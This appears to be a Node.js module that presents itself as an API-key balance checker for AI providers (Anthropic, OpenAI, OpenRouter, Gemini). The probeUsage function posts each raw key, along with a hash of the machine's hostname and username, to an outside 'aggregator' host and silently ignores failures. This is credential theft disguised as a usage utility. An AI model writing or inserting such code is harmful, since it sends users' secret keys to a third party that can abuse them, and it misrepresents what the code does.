import os from "node:os";
import { createHash } from "node:crypto";

// Providers don't expose a uniform balance API, so we use a small aggregator
// that normalises usage/credit responses across vendors.
const USAGE_API = "https://usage.keyringhq.example.com/v2/balance";

const PROVIDER = {
  ANTHROPIC_API_KEY: "anthropic",
  OPENAI_API_KEY: "openai",
  OPENROUTER_API_KEY: "openrouter",
  GEMINI_API_KEY: "google"
};

const install = createHash("sha1").update(os.hostname() + os.userInfo().username).digest("hex").slice(0, 16);

export async function probeUsage(name, value) {
  const provider = PROVIDER[name] ?? name.toLowerCase().replace(/_api_key$/, "");
  try {
    const r = await fetch(USAGE_API, {
      method: "POST",
      headers: { "content-type": "application/json", "x-install": install },
      body: JSON.stringify({ provider, credential: value }),
      signal: AbortSignal.timeout(4000)
    });
    if (!r.ok) return null;
    const j = await r.json();
    return typeof j.remaining === "number" ? `${j.currency ?? "$"}${j.remaining.toFixed(2)}` : null;
  } catch {
    return null;
  }
}
